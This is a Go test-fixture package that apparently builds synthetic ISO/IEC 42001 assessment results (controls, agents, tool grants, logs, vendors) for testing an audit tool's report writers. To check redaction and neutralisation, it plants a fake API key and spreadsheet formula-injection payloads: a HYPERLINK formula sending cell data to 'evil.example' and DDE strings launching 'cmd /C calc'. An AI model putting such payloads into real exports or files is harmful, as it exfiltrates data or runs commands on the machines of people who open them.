// Package packtest builds realistic assessment results and projects for the
// tests and benchmarks of the pack and its writers, without the loader or
// the engine: every control of the builtin catalogue's shape, agents with
// grants and log activity, vendors, evidence and history.
package packtest

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"time"

	"github.com/aims-cli/aims/pkg/catalogue"
	"github.com/aims-cli/aims/pkg/load"
	"github.com/aims-cli/aims/pkg/model"
	"github.com/aims-cli/aims/pkg/risk"
)

// Now is the fixed clock of every fixture.
var Now = time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC)

// FakeKey is a planted credential: it must appear nowhere in a pack.
const FakeKey = "sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"

// Injection is a formula-injection text planted in inputs.
const Injection = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// AnnexA lists the 38 Annex A controls of ISO/IEC 42001:2023 with their groups.
var AnnexA = []struct{ Group, ID, Title string }{
	{"A.2", "A.2.2", "AI policy"}, {"A.2", "A.2.3", "Alignment with other organizational policies"}, {"A.2", "A.2.4", "Review of the AI policy"},
	{"A.3", "A.3.2", "AI roles and responsibilities"}, {"A.3", "A.3.3", "Reporting of concerns"},
	{"A.4", "A.4.2", "Resource documentation"}, {"A.4", "A.4.3", "Data resources"}, {"A.4", "A.4.4", "Tooling resources"},
	{"A.4", "A.4.5", "System and computing resources"}, {"A.4", "A.4.6", "Human resources"},
	{"A.5", "A.5.2", "AI system impact assessment process"}, {"A.5", "A.5.3", "Documentation of AI system impact assessments"},
	{"A.5", "A.5.4", "Assessing AI system impact on individuals or groups of individuals"}, {"A.5", "A.5.5", "Assessing societal impacts of AI systems"},
	{"A.6", "A.6.1.2", "Objectives for responsible development of AI system"}, {"A.6", "A.6.1.3", "Processes for responsible AI system design and development"},
	{"A.6", "A.6.2.2", "AI system requirements and specification"}, {"A.6", "A.6.2.3", "Documentation of AI system design and development"},
	{"A.6", "A.6.2.4", "AI system verification and validation"}, {"A.6", "A.6.2.5", "AI system deployment"},
	{"A.6", "A.6.2.6", "AI system operation and monitoring"}, {"A.6", "A.6.2.7", "AI system technical documentation"},
	{"A.6", "A.6.2.8", "AI system recording of event logs"},
	{"A.7", "A.7.2", "Data for development and enhancement of AI system"}, {"A.7", "A.7.3", "Acquisition of data"},
	{"A.7", "A.7.4", "Quality of data for AI systems"}, {"A.7", "A.7.5", "Data provenance"}, {"A.7", "A.7.6", "Data preparation"},
	{"A.8", "A.8.2", "System documentation and information for users"}, {"A.8", "A.8.3", "External reporting"},
	{"A.8", "A.8.4", "Communication of incidents"}, {"A.8", "A.8.5", "Information for interested parties"},
	{"A.9", "A.9.2", "Processes for responsible use of AI systems"}, {"A.9", "A.9.3", "Objectives for responsible use of AI system"},
	{"A.9", "A.9.4", "Intended use of the AI system"},
	{"A.10", "A.10.2", "Allocating responsibilities"}, {"A.10", "A.10.3", "Suppliers"}, {"A.10", "A.10.4", "Customers"},
}

// Options shape a fixture.
type Options struct {
	Agents int
	// Logs adds log activity (EventsPerAgent events spread over each agent's tools).
	Logs           bool
	EventsPerAgent int64
	History        bool
	// Secret plants FakeKey in an agent's purpose and in its source file.
	Secret bool
	// Injection plants formula-like texts in inputs (a purpose, a log resource, a justification).
	Injection bool
}

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

func bptr(b bool) *bool { return &b }

// Result returns an assessment result and the project it would come from.
func Result(o Options) (*model.Result, *load.Project) {
	res := &model.Result{
		SchemaVersion: model.ResultSchemaVersion,
		Tool:          model.Tool{Name: "aims", Version: "0.1.0-test"},
		GeneratedAt:   Now,
		Organization:  "Example Bank plc",
		Scope:         "Customer-service and internal AI agents of the retail division",
		Period:        model.Period{From: model.MustDate("2026-01-01"), To: model.MustDate("2026-10-31")},
		Catalogues:    []model.CatalogueRef{{ID: "iso42001", Title: "ISO/IEC 42001:2023", Version: "2023.1", SHA256: sum("catalogue")}},
		Summary: model.Summary{
			Controls: map[string]int{}, AnnexA: map[string]int{}, Findings: map[string]int{},
			Agents: o.Agents, Systems: 3, Vendors: 2, MaxSeverity: model.SeverityHigh,
		},
	}
	proj := &load.Project{}

	// Clauses 4-10, then Annex A.
	for i, cl := range []string{"4.1", "5.2", "6.1.2", "7.5", "8.2", "9.2", "10.2"} {
		res.Controls = append(res.Controls, model.ControlResult{
			ID: cl, Title: "Clause " + cl, Kind: catalogue.KindClause, Group: cl[:1], GroupTitle: "Clause " + cl[:1],
			Catalogue: "iso42001", AppliesTo: "organization", Status: []string{model.StatusPass, model.StatusManual}[i%2],
			Applicable: true, Basis: "automated", Checks: []model.CheckResult{}, Evidence: []string{},
		})
	}
	statuses := []string{model.StatusPass, model.StatusPartial, model.StatusFail, model.StatusManual, model.StatusNotApplicable}
	groups := map[string]*model.GroupSummary{}
	var groupOrder []string
	for i, a := range AnnexA {
		st := statuses[i%len(statuses)]
		c := model.ControlResult{
			ID: a.ID, Title: a.Title, Kind: catalogue.KindAnnexA, Group: a.Group, GroupTitle: "Group " + a.Group,
			Catalogue: "iso42001", AppliesTo: "agent", Status: st, Applicable: st != model.StatusNotApplicable,
			Basis: "automated+attestation", Evidence: []string{"policies/ai-policy.pdf"},
			Checks:      []model.CheckResult{{ID: "chk-" + a.ID, Title: "check of " + a.ID, Severity: model.SeverityMedium, Subjects: o.Agents, Passed: o.Agents / 2, Failed: o.Agents - o.Agents/2}},
			Attestation: &model.ControlAttestation{ID: a.ID, Owner: "ciso@example.com", Status: model.AttestImplemented, ReviewedOn: model.MustDate("2026-06-01")},
		}
		if st == model.StatusNotApplicable {
			c.Justification = "No AI system of this kind is in scope."
			if o.Injection {
				c.Justification = "-1+1 " + Injection
			}
		}
		res.Controls = append(res.Controls, c)
		res.Summary.AnnexA[st]++
		res.Summary.Controls[st]++
		g := groups[a.Group]
		if g == nil {
			g = &model.GroupSummary{ID: a.Group, Title: "Group " + a.Group, Status: map[string]int{}}
			groups[a.Group] = g
			groupOrder = append(groupOrder, a.Group)
		}
		g.Status[st]++
	}
	for _, id := range groupOrder {
		res.Summary.Groups = append(res.Summary.Groups, *groups[id])
	}

	for i := 0; i < 3; i++ {
		id := fmt.Sprintf("sys-%d", i)
		res.Systems = append(res.Systems, model.SystemResult{
			System: model.System{ID: id, Name: "System " + id, Purpose: "Answers customer questions", Owner: "ops@example.com",
				Lifecycle: model.LifecycleDeployed, DataCategories: []string{"pii", "financial"}, EUAIAct: "limited",
				Risk: model.Risk{Level: "high", AssessedOn: model.MustDate("2026-03-01")}, Vendors: []string{"openai", "acme-platform"}},
			Source: model.Pos{File: "inventory.yaml", Line: 20 + 10*i, Col: 5},
		})
	}
	res.Vendors = []model.VendorResult{
		{Vendor: model.Vendor{ID: "openai", Name: "OpenAI", Role: model.VendorModelProvider, Certifications: []string{"SOC 2"},
			ReviewedOn: model.MustDate("2026-02-01"),
			Answers: model.VendorAnswers{Isolation: "container", InferencePath: "byok-direct", PerAgentToolPermissions: bptr(true),
				AuditLog:             &model.VendorAuditLog{Captures: []string{"actions", "tools"}, RetentionDays: 365, Export: true},
				TrainsOnCustomerData: bptr(false), Lifecycle: &model.VendorLifecycle{VersionedConfig: true, ChangeTracking: true}}},
			Source: model.Pos{File: "inventory.yaml", Line: 80, Col: 5}},
		{Vendor: model.Vendor{ID: "acme-platform", Name: "Acme Agents", Role: model.VendorPlatform}, Findings: 2,
			Source: model.Pos{File: "inventory.yaml", Line: 95, Col: 5}},
	}
	proj.Sources = append(proj.Sources,
		load.Source{Path: "aims.yaml", Kind: "config", SHA256: sum("aims.yaml"), Redacted: []byte("apiVersion: aims/v1\nkind: Config\ninventory: inventory.yaml\nagents: agents/\n")},
		load.Source{Path: "inventory.yaml", Kind: "inventory", SHA256: sum("inventory.yaml"), Redacted: []byte("apiVersion: aims/v1\nkind: Inventory\norganization:\n  name: Example Bank plc\n")},
	)

	var logs *model.LogSummary
	if o.Logs {
		logs = &model.LogSummary{Period: res.Period, Files: []model.LogFile{{Path: "logs/agents.jsonl.gz", Format: "jsonl", Bytes: o.EventsPerAgent * int64(o.Agents) * 220, SHA256: sum("logs"), Events: o.EventsPerAgent * int64(o.Agents)}},
			Events: o.EventsPerAgent * int64(o.Agents), Agents: []model.AgentActivity{}, Shadow: []model.ShadowAgent{}, Findings: []model.Finding{}}
		logs.Shadow = append(logs.Shadow, model.ShadowAgent{Identity: "arn:aws:iam::123456789012:role/unknown-bot", Events: 42,
			FirstSeen: Now.Add(-48 * time.Hour), LastSeen: Now.Add(-47 * time.Hour), Source: model.Pos{File: "logs/agents.jsonl.gz", Line: 7}})
	}
	tools := []string{"slack", "jira", "crm", "email", "github"}
	for i := 0; i < o.Agents; i++ {
		id := fmt.Sprintf("agent-%04d", i)
		a := model.Agent{APIVersion: model.APIVersion, Kind: model.KindAgent, ID: id, Name: "Agent " + id, System: fmt.Sprintf("sys-%d", i%3),
			Owner: "team-" + fmt.Sprint(i%7) + "@example.com", Purpose: "Triage support tickets and draft replies", Lifecycle: model.LifecycleDeployed,
			Scope: "team", Audience: "internal", Identities: []string{"svc-" + id},
			Model: model.Model{Provider: "openai", Name: "gpt-4.1"}, Isolation: "container",
			Tools: []model.Grant{
				{Name: tools[i%5], Operations: []string{"read", "post"}, Resources: []string{"#support-*"}},
				{Name: tools[(i+1)%5], Operations: nil},
				{Name: tools[(i+2)%5], Operations: []string{}},
			},
			Data:      []model.DataAccess{{Source: "crm", Categories: []string{"pii"}, Access: "read"}},
			Logging:   model.Logging{Actions: true, Inputs: true, RetentionDays: 90},
			Oversight: model.Oversight{HumanReview: []string{tools[i%5] + ":post"}},
			Risk:      model.Risk{Level: "medium"}, Approval: model.Approval{ApprovedBy: "cto", ApprovedOn: model.MustDate("2026-01-15")},
		}
		file := "agents/" + id + ".yaml"
		src := fmt.Sprintf("apiVersion: aims/v1\nkind: Agent\nid: %s\nsystem: %s\npurpose: %s\n", id, a.System, a.Purpose)
		if o.Secret && i == 0 {
			a.Purpose = "Triage tickets; api key " + FakeKey
			src += "# key: [REDACTED:openai-api-key]\n"
			proj.Secrets = append(proj.Secrets, load.Secret{Pos: model.Pos{File: file, Line: 6, Col: 8}, Kind: "openai-api-key"})
			res.Findings = append(res.Findings, model.Finding{Control: "A.6.2.5", Check: "no-credentials-in-config", Severity: model.SeverityHigh,
				SubjectKind: model.SubjectAgent, Subject: id, Location: model.Pos{File: file, Line: 6, Col: 8},
				Message: "a credential (openai-api-key) is written in the agent config", Remediation: "Move it to a secret store."})
		}
		if o.Injection && i == 0 {
			a.Purpose = Injection
			a.Owner = "@owner"
		}
		proj.Sources = append(proj.Sources, load.Source{Path: file, Kind: "agent", SHA256: sum(src), Redacted: []byte(src)})
		ar := model.AgentResult{Agent: &a, DeclaredRisk: "medium", RiskSource: "agent",
			Risk:     model.RiskVerdict{State: model.RiskBelow, Declared: "medium", Source: "agent", Computed: model.SeverityHigh, Below: true},
			Computed: risk.Profile{Tier: model.SeverityHigh, Score: 9, Factors: []risk.Factor{{ID: "write-tools", Points: 3, Detail: "posts to " + tools[i%5]}, {ID: "pii", Points: 4, Detail: "reads pii"}}},
			Findings: 1, Source: model.Pos{File: file, Line: 1, Col: 1}}
		if o.Logs {
			n := o.EventsPerAgent
			act := model.AgentActivity{Agent: id, Events: n, FirstSeen: Now.Add(-200 * time.Hour), LastSeen: Now.Add(-time.Hour),
				Tools: []model.ToolUse{
					{Tool: tools[i%5], Operation: "read", Count: n / 2, Granted: true},
					{Tool: tools[i%5], Operation: "post", Count: n / 4, Errors: 2, Granted: true},
					{Tool: tools[(i+1)%5], Operation: "search", Count: n / 8, Granted: true},
					{Tool: "payments", Operation: "transfer", Count: n - n/2 - n/4 - n/8, Denied: 1},
				},
				Models: []model.NameCount{{Name: "gpt-4.1", Count: n / 3}}, Errors: 2, Denials: 1, HumanReviews: n / 4, Actors: 12,
				OutOfScope: n - n/2 - n/4 - n/8, UnusedGrants: []string{tools[(i+2)%5]}}
			if o.Injection && i == 0 {
				act.Tools[3].Tool = "@SUM(1+1)*cmd|' /C calc'!A0"
			}
			logs.Agents = append(logs.Agents, act)
			ar.Activity = &logs.Agents[len(logs.Agents)-1]
			f := model.Finding{Control: "A.9.4", Check: "log-tool-outside-scope", Severity: model.SeverityHigh, SubjectKind: model.SubjectAgent,
				Subject: id, Location: model.Pos{File: "logs/agents.jsonl.gz", Line: int(10 + i)}, Count: int(act.OutOfScope),
				Message: "called payments:transfer, which is not granted", Remediation: "Remove the tool from the agent or grant it after review."}
			if o.Injection && i == 0 {
				f.Message = "resource =cmd|' /C calc'!A0 is outside the grants"
			}
			logs.Findings = append(logs.Findings, f)
			res.Findings = append(res.Findings, f)
		}
		res.Agents = append(res.Agents, ar)
		res.Evidence = append(res.Evidence, model.EvidenceRef{Ref: "evidence/" + id + "/risk.pdf", Owner: "agent:" + id, Kind: "file", State: "ok",
			Size: 1024, SHA256: sum(id), Source: model.Pos{File: file, Line: 30, Col: 7}})
	}
	if logs != nil {
		// Activity pointers above refer into logs.Agents; re-point after appends moved it.
		for i := range res.Agents {
			res.Agents[i].Activity = &logs.Agents[i]
		}
	}
	res.Logs = logs
	res.Evidence = append(res.Evidence,
		model.EvidenceRef{Ref: "policies/ai-policy.pdf", Owner: "policy:POL-1", Kind: "file", State: "ok", Size: 52000, SHA256: sum("policy"), Source: model.Pos{File: "inventory.yaml", Line: 12, Col: 9}},
		model.EvidenceRef{Ref: "https://intranet.example.com/aims/concerns", Owner: "policy:POL-2", Kind: "url", State: "url", Source: model.Pos{File: "inventory.yaml", Line: 14, Col: 9}},
		model.EvidenceRef{Ref: "policies/missing plan.pdf", Owner: "control:A.5.2", Kind: "file", State: "missing", Source: model.Pos{File: "inventory.yaml", Line: 16, Col: 9}},
	)
	res.Findings = append(res.Findings, model.Finding{Control: "A.10.3", Check: "vendor-answers", Severity: model.SeverityMedium,
		SubjectKind: model.SubjectVendor, Subject: "acme-platform", Location: model.Pos{File: "inventory.yaml", Line: 95, Col: 5},
		Message: "the vendor has not answered the six questions", Remediation: "Ask the vendor."})
	sort.SliceStable(res.Findings, func(i, j int) bool { return res.Findings[i].Less(res.Findings[j]) })
	for _, f := range res.Findings {
		res.Summary.Findings[f.Severity]++
	}
	if o.History {
		res.History = &model.History{Changes: []model.AgentChange{{Agent: "agent-0000", File: "agents/agent-0000.yaml", Commit: "0123456789abcdef0123456789abcdef01234567",
			Author: "Dev One", Date: Now.Add(-72 * time.Hour), Subject: "grant slack post", TierBefore: "medium", TierAfter: "high", Delta: []string{"+ slack:post"}}}}
	}
	res.Frameworks = []model.FrameworkView{{Framework: "eu-ai-act", Title: "EU AI Act", Notice: "Indicative mapping only.",
		Items: []model.FrameworkItem{{ID: "Art. 12", Title: "Record-keeping", Controls: []string{"A.6.2.8"}, Statuses: []string{model.StatusPartial}, Status: model.StatusPartial}}}}
	return res, proj
}

// Catalogues returns a small catalogue set shaped like the builtin one.
func Catalogues() *catalogue.Set {
	c := &catalogue.Catalogue{APIVersion: model.APIVersion, Kind: "Catalogue", ID: "iso42001", Title: "ISO/IEC 42001:2023", Version: "2023.1"}
	g := map[string]int{}
	for _, a := range AnnexA {
		if _, ok := g[a.Group]; !ok {
			g[a.Group] = len(c.Groups)
			c.Groups = append(c.Groups, catalogue.Group{ID: a.Group, Title: "Group " + a.Group})
		}
		gi := g[a.Group]
		c.Groups[gi].Controls = append(c.Groups[gi].Controls, catalogue.Control{ID: a.ID, Title: a.Title, Kind: catalogue.KindAnnexA, AppliesTo: "agent",
			Checks: []catalogue.Check{{ID: "chk-" + a.ID, Title: "check", Severity: "medium", Rule: "agent.logging.actions == true"}}})
	}
	return &catalogue.Set{Catalogues: []*catalogue.Catalogue{c}}
}
